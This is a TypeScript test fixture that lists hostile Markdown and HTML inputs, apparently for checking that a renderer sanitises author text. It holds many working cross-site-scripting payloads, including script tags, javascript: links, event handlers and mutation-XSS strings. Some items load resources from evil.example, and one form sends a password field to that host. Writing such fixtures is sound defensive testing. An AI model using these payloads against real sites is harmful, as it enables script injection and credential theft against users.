/** A text with which an author could try to run a script in a reader's browser or take over the page. */
export interface HostileText {
  name: string
  markdown: string
}

/** Attempts to run `alert`, to leave the allowed URLs, or to affect the page around the text (D27). */
export const hostileTexts: HostileText[] = [
  // Script elements
  { name: 'script', markdown: 'Text <script>alert(1)</script> text' },
  { name: 'script in a block', markdown: '<div>\n\n<script>alert(1)</script>\n\n</div>' },
  { name: 'script in capitals', markdown: '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>' },
  { name: 'script within script', markdown: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  { name: 'script left open', markdown: '<script>alert(1)' },
  { name: 'script with a slash', markdown: '<script/x>alert(1)</script>' },
  { name: 'script in a heading', markdown: '# <script>alert(1)</script>Heading' },
  { name: 'script in a table', markdown: '| a |\n|---|\n| <script>alert(1)</script> |' },
  { name: 'script in a list', markdown: '- one\n- <script>alert(1)</script>' },
  { name: 'script in a quote', markdown: '> <script>alert(1)</script>' },
  { name: 'script in a code span', markdown: '`<script>alert(1)</script>`' },
  {
    name: 'script leaving a code block',
    markdown: '```\n</code></pre><script>alert(1)</script>\n```',
  },
  {
    name: 'script in a code block’s language',
    markdown: '```"><script>alert(1)</script>\ntext\n```',
  },
  // Script URLs
  { name: 'javascript link', markdown: '[x](javascript:alert(1))' },
  { name: 'javascript link in mixed case', markdown: '[x](JaVaScRiPt:alert(1))' },
  { name: 'javascript link with a tab', markdown: '<a href="java&#9;script:alert(1)">x</a>' },
  { name: 'javascript link with a line break', markdown: '<a href="java\nscript:alert(1)">x</a>' },
  {
    name: 'javascript link after a control character',
    markdown: '<a href="&#1;javascript:alert(1)">x</a>',
  },
  {
    name: 'javascript link by entities',
    markdown: '[x](&#106;avascript&colon;alert&lpar;1&rpar;)',
  },
  { name: 'javascript link by reference', markdown: '[x][y]\n\n[y]: javascript:alert(1)' },
  { name: 'javascript autolink', markdown: '<javascript:alert(1)>' },
  { name: 'javascript image', markdown: '![x](javascript:alert(1))' },
  { name: 'vbscript link', markdown: '[x](vbscript:msgbox(1))' },
  {
    name: 'data link',
    markdown: '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  },
  { name: 'data image of SVG', markdown: '![x](data:image/svg+xml;utf8,<svg onload="alert(1)"/>)' },
  { name: 'blob link', markdown: '[x](blob:https://evil.example/1)' },
  { name: 'file link', markdown: '[x](file:///etc/passwd)' },
  { name: 'link of another origin without a protocol', markdown: '[x](//evil.example/)' },
  { name: 'link of another origin by backslash', markdown: '<a href="/\\evil.example/">x</a>' },
  { name: 'link of another origin with a tab', markdown: '<a href="/&#9;/evil.example/">x</a>' },
  { name: 'link whose title breaks out', markdown: '[x](/a "\\" onmouseover=\\"alert(1)")' },
  { name: 'link whose address breaks out', markdown: '[x](</a" onmouseover="alert(1)>)' },
  { name: 'image whose text breaks out', markdown: '![" onerror="alert(1)](/missing.png)' },
  // Event handlers
  { name: 'onerror of an image', markdown: '<img src=x onerror=alert(1)>' },
  { name: 'onerror after a slash', markdown: '<img/src=x/onerror=alert(1)>' },
  { name: 'onload of an image', markdown: '<img src="/assets/icon.svg" onload="alert(1)">' },
  {
    name: 'ontoggle of details',
    markdown: '<details open ontoggle=alert(1)><summary>x</summary></details>',
  },
  { name: 'onfocus with autofocus', markdown: '<input autofocus onfocus=alert(1)>' },
  {
    name: 'onanimationstart',
    markdown: '<p style="animation:pulse 1s" onanimationstart=alert(1)>x</p>',
  },
  { name: 'onmouseover of a link', markdown: '<a href="/" onmouseover="alert(1)">x</a>' },
  {
    name: 'onerror of media',
    markdown: '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  },
  { name: 'onstart of a marquee', markdown: '<marquee onstart=alert(1)>x</marquee>' },
  // Embedding
  { name: 'iframe', markdown: '<iframe src="javascript:alert(1)"></iframe>' },
  {
    name: 'iframe with a document',
    markdown: '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  },
  { name: 'object', markdown: '<object data="javascript:alert(1)"></object>' },
  { name: 'embed', markdown: '<embed src="javascript:alert(1)">' },
  { name: 'frameset', markdown: '<frameset onload=alert(1)><frame src=x></frameset>' },
  { name: 'base', markdown: '<base href="https://evil.example/">' },
  { name: 'refresh', markdown: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">' },
  { name: 'stylesheet', markdown: '<link rel="stylesheet" href="https://evil.example/x.css">' },
  {
    name: 'style',
    markdown: '<style>@import "https://evil.example/x.css"; body{display:none}</style>',
  },
  { name: 'template', markdown: '<template><script>alert(1)</script></template>' },
  {
    name: 'shadow root',
    markdown: '<div><template shadowrootmode="open"><img src=x onerror=alert(1)></template></div>',
  },
  { name: 'custom element', markdown: '<x-y is="a" onclick=alert(1)>x</x-y>' },
  // Forms, which could phish for a password
  {
    name: 'form',
    markdown:
      '<form action="https://evil.example/"><input name=password><button>Go</button></form>',
  },
  {
    name: 'button that sends another form',
    markdown: '<button form="f" formaction="javascript:alert(1)">x</button>',
  },
  // SVG and MathML
  { name: 'svg onload', markdown: '<svg onload=alert(1)></svg>' },
  { name: 'svg script', markdown: '<svg><script>alert(1)</script></svg>' },
  {
    name: 'svg script by reference',
    markdown: '<svg><script href="data:text/javascript,alert(1)"/></svg>',
  },
  {
    name: 'svg animation of an address',
    markdown:
      '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>',
  },
  {
    name: 'svg use',
    markdown: '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  },
  {
    name: 'svg foreign object',
    markdown: '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  },
  { name: 'mathml link', markdown: '<math><a xlink:href="javascript:alert(1)">x</a></math>' },
  { name: 'mathml action', markdown: '<math href="javascript:alert(1)"><mi>x</mi></math>' },
  // Texts whose meaning changes when they are parsed a second time
  {
    name: 'mutation through mathml and style',
    markdown:
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  },
  {
    name: 'mutation through mathml text',
    markdown: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  },
  {
    name: 'mutation through svg and style',
    markdown: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  },
  {
    name: 'mutation through noscript',
    markdown: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  },
  {
    name: 'mutation through textarea',
    markdown: '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
  },
  {
    name: 'mutation through title',
    markdown: '<title><a title="</title><img src=x onerror=alert(1)>">',
  },
  { name: 'mutation through a comment', markdown: '<!--><img src=x onerror=alert(1)>-->' },
  {
    name: 'mutation through a comment’s end',
    markdown: '<!-- --!><img src=x onerror=alert(1)> -->',
  },
  {
    name: 'mutation through cdata',
    markdown: '<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]>',
  },
  { name: 'mutation through xmp', markdown: '<xmp><p title="</xmp><svg/onload=alert(1)>">' },
  {
    name: 'mutation through select',
    markdown: '<select><template><img src=x onerror=alert(1)></template></select>',
  },
  { name: 'mutation through backquotes', markdown: '<img alt="``onerror=alert(1)" src=x>' },
  { name: 'deep nesting', markdown: `${'<div>'.repeat(600)}<img src=x onerror=alert(1)>` },
  // Broken nesting
  {
    name: 'ends of elements around the text',
    markdown: '</div></div></main></body></html><script>alert(1)</script>',
  },
  { name: 'an element left open', markdown: '<table><tr><td><a href="/">text' },
  { name: 'an attribute left open', markdown: '<a href="/x><img src=x onerror=alert(1)>' },
  { name: 'a tag left open', markdown: '<img src=x onerror=alert(1)//' },
  { name: 'emphasis across tags', markdown: '**<a href="/**" onclick="alert(1)">x</a>' },
  { name: 'null character', markdown: '<scr\u0000ipt>alert(1)</scr\u0000ipt>' },
  // Affecting the page around the text
  {
    name: 'id that the page relies on',
    markdown: '<div id="page-data">{"registry":{}}</div><p id="root">x</p>',
  },
  { name: 'id by heading', markdown: '# root\n\n# page-data' },
  {
    name: 'name that shadows the document',
    markdown: '<img name="getElementById" src="/assets/icon.svg"><a id="cookie" name="body">x</a>',
  },
  {
    name: 'landmark of its own',
    markdown: '<div role="alert" aria-label="Sign in again">Sign in again</div>',
  },
]
